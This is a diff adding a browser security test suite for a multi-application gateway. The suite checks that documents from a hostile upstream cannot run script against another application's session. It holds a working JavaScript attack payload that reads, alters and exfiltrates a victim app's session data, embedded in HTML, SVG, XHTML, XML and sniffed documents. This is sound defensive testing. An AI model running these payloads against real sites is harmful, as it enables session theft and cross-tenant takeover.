@@ -1,0 +1,237 @@
+"""Issue 12, row 1 (docs/reliability.md I1): an application's upstream cannot run script in the
+gateway's origin, proven in headless Chromium through the real gateway.
+
+Two applications share the gateway's origin: `a`, whose upstream is hostile, and `b`, where
+the victim has a session. A's upstream answers a navigation under `/apps/a/agent/...` with a
+document whose script (synchronous XHR, so everything happens before the load event) reads
+`/apps/b/session`, PATCHes it with `X-CSRF: 1`, drives B's agent and reports the loot to A's
+upstream. Every proxied answer carries `Content-Security-Policy: sandbox ...` (an opaque
+origin, no script) and `X-Content-Type-Options: nosniff`, whatever the upstream sent, so none
+of that happens, for every kind of document a browser would run script in. A control test runs
+the same script where script may run (a plain gateway page) and sees it succeed, so the
+assertions can tell. Event streams and JSON still work for `fetch`/`EventSource`.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+from collections.abc import AsyncIterator
+from dataclasses import dataclass
+
+import pytest
+from aiohttp import web
+from playwright.async_api import Browser, BrowserContext
+from playwright.async_api import Error as PlaywrightError
+from pytest_aiohttp import AiohttpServer
+
+from app.applications import AppConfig
+from app.proxy import PROXIED_CSP
+from tests.conftest import make_settings
+from tests.fake_upstream import (
+    RunningGateway,
+    ServedUpstream,
+    run_gateway,
+    serve_upstream,
+    sse,
+    start_sse,
+)
+
+pytestmark = pytest.mark.browser
+
+VICTIM_DATA = {"secret": "b-only"}
+
+# Synchronous XHR: the attack is over before the document's load event (no waiting needed).
+ATTACK_JS = """
+(function () {
+  function call(method, url, body) {
+    var x = new XMLHttpRequest();
+    x.open(method, url, false);
+    if (method !== 'GET') { x.setRequestHeader('X-CSRF', '1'); }
+    if (body !== undefined) { x.setRequestHeader('Content-Type', 'application/json'); }
+    x.send(body === undefined ? null : body);
+    return x.responseText;
+  }
+  var loot = call('GET', '/apps/b/session');
+  call('PATCH', '/apps/b/session', JSON.stringify({pwned: loot}));
+  call('POST', '/apps/b/agent/drive', JSON.stringify({by: 'a'}));
+  call('POST', '/apps/a/agent/report', JSON.stringify({loot: loot}));
+})();
+"""
+
+# Every kind of answer a browser may render as a document that runs script: (content type or
+# None for no Content-Type at all, body).
+HOSTILE_DOCUMENTS: dict[str, tuple[str | None, str]] = {
+    "text/html": (
+        "text/html; charset=utf-8",
+        f"<!doctype html><p id=m>x</p><script>{ATTACK_JS}</script>",
+    ),
+    "image/svg+xml": (
+        "image/svg+xml",
+        f'<svg xmlns="http://www.w3.org/2000/svg"><script>//<![CDATA[\n{ATTACK_JS}\n//]]></script></svg>',
+    ),
+    "application/xhtml+xml": (
+        "application/xhtml+xml",
+        '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>//<![CDATA[\n'
+        f"{ATTACK_JS}\n//]]></script></body></html>",
+    ),
+    "text/xml with an XHTML script": (
+        "text/xml",
+        '<?xml version="1.0"?><doc><script xmlns="http://www.w3.org/1999/xhtml">//<![CDATA[\n'
+        f"{ATTACK_JS}\n//]]></script></doc>",
+    ),
+    "no content type (sniffed)": (None, f"<html><body><script>{ATTACK_JS}</script></body></html>"),
+    "application/unknown (sniffed)": (
+        "application/unknown",
+        f"<html><body><script>{ATTACK_JS}</script></body></html>",
+    ),
+    "text/plain carrying HTML": (
+        "text/plain",
+        f"<html><body><script>{ATTACK_JS}</script></body></html>",
+    ),
+}
+
+
+@dataclass
+class TwoApps:
+    gateway: RunningGateway
+    hostile: ServedUpstream  # app `a`
+    victim: ServedUpstream  # app `b`
+
+
+@pytest.fixture
+async def two_apps(aiohttp_server: AiohttpServer) -> AsyncIterator[TwoApps]:
+    hostile = await serve_upstream(aiohttp_server)
+    victim = await serve_upstream(aiohttp_server)
+    apps = {
+        app_id: AppConfig(app_id=app_id, upstream=str(served.base))
+        for app_id, served in (("a", hostile), ("b", victim))
+    }
+    settings = dataclasses.replace(make_settings(), apps=apps)
+    async with run_gateway(settings) as gateway:
+        yield TwoApps(gateway=gateway, hostile=hostile, victim=victim)
+
+
+async def victim_context(browser: Browser, apps: TwoApps) -> BrowserContext:
+    """A browser context holding a session at `b` with `VICTIM_DATA`."""
+    context = await browser.new_context(base_url=str(apps.gateway.url))
+    resp = await context.request.patch(
+        "/apps/b/session", data=json.dumps(VICTIM_DATA), headers={"X-CSRF": "1"}
+    )
+    assert resp.status == 200
+    return context
+
+
+async def data_of_b(context: BrowserContext) -> object:
+    resp = await context.request.get("/apps/b/session")
+    assert resp.status == 200
+    return (await resp.json())["data"]
+
+
+def serve_raw(upstream: ServedUpstream, path: str, content_type: str | None, body: str) -> None:
+    """A's upstream answers `path` with exactly this content type, or with none at all
+    (aiohttp's server would add `application/octet-stream`, so that answer is written raw)."""
+    payload = body.encode()
+
+    async def typed(request: web.Request) -> web.StreamResponse:
+        return web.Response(body=payload, headers={"Content-Type": content_type or ""})
+
+    async def untyped(request: web.Request) -> web.StreamResponse:
+        transport = request.transport
+        assert transport is not None
+        head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(payload)}\r\nConnection: close\r\n\r\n"
+        transport.write(head.encode() + payload)
+        transport.close()
+        return web.Response()  # never sent: the connection is closed
+
+    upstream.fake.on(path, untyped if content_type is None else typed)
+
+
+def attack_reached(apps: TwoApps) -> list[str]:
+    """What of the attack reached an upstream: B driven, or loot reported to A."""
+    reached = [f"b {s.method} {s.raw_path_qs}" for s in apps.victim.fake.seen]
+    reached += [
+        f"a {s.method} {s.raw_path_qs}" for s in apps.hostile.fake.seen if "report" in s.raw_path_qs
+    ]
+    return reached
+
+
+@pytest.mark.parametrize("kind", HOSTILE_DOCUMENTS)
+async def test_I1_an_upstream_document_cannot_read_or_change_another_application(
+    browser: Browser, two_apps: TwoApps, kind: str
+) -> None:
+    content_type, body = HOSTILE_DOCUMENTS[kind]
+    serve_raw(two_apps.hostile, "/v1/evil", content_type, body)
+    context = await victim_context(browser, two_apps)
+    page = await context.new_page()
+    try:
+        try:
+            response = await page.goto(f"{two_apps.gateway.url}/apps/a/agent/evil")
+        except PlaywrightError as err:
+            # Not a document at all (e.g. `application/octet-stream`): a download.
+            assert "Download is starting" in str(err), err
+        else:
+            assert response is not None and response.status == 200
+        assert attack_reached(two_apps) == []
+        assert await data_of_b(context) == VICTIM_DATA
+    finally:
+        await context.close()
+    # What made it inert, whatever the upstream sent (no type: aiohttp's octet-stream).
+    async with two_apps.gateway.client.get("/apps/a/agent/evil") as resp:
+        assert resp.status == 200
+        assert resp.headers["X-Content-Type-Options"] == "nosniff"
+        assert resp.headers["Content-Security-Policy"] == PROXIED_CSP
+        assert resp.headers["Content-Type"] == (content_type or "application/octet-stream")
+        assert await resp.text() == body
+
+
+async def test_I1_control_the_same_script_succeeds_where_script_may_run(
+    browser: Browser, two_apps: TwoApps
+) -> None:
+    """Proves the assertions above can fail: on a gateway page that is not a proxied answer
+    (`/healthz`), the attack script reads and changes B and drives B's agent."""
+    context = await victim_context(browser, two_apps)
+    page = await context.new_page()
+    try:
+        await page.goto(f"{two_apps.gateway.url}/healthz")
+        await page.evaluate(ATTACK_JS)
+        assert attack_reached(two_apps) == ["b POST /v1/drive", "a POST /v1/report"]
+        stolen = json.loads(json.loads(two_apps.hostile.fake.seen[-1].body or b"{}")["loot"])
+        assert stolen == {"data": VICTIM_DATA}
+        assert await data_of_b(context) != VICTIM_DATA
+    finally:
+        await context.close()
+
+
+async def test_I1_event_streams_and_json_still_work_for_fetch_and_eventsource(
+    browser: Browser, two_apps: TwoApps
+) -> None:
+    async def stream(request: web.Request) -> web.StreamResponse:
+        response = await start_sse(request)
+        for n in range(3):
+            await response.write(sse("token", {"n": n}))
+        await response.write(sse("done", {}))
+        return response
+
+    two_apps.hostile.fake.on("/v1/stream", stream)
+    context = await browser.new_context(base_url=str(two_apps.gateway.url))
+    page = await context.new_page()
+    try:
+        await page.goto(f"{two_apps.gateway.url}/healthz")
+        got = await page.evaluate(
+            """async () => {
+                const json = await (await fetch('/apps/a/agent/echo')).json();
+                const events = await new Promise((resolve, reject) => {
+                    const seen = [];
+                    const source = new EventSource('/apps/a/agent/stream');
+                    source.addEventListener('token', (e) => seen.push(JSON.parse(e.data).n));
+                    source.addEventListener('done', () => { source.close(); resolve(seen); });
+                    source.onerror = () => { source.close(); reject(new Error('stream error')); };
+                });
+                return {json, events};
+            }"""
+        )
+        assert got["json"]["path"] == "/v1/echo"
+        assert got["events"] == [0, 1, 2]
+    finally:
+        await context.close()
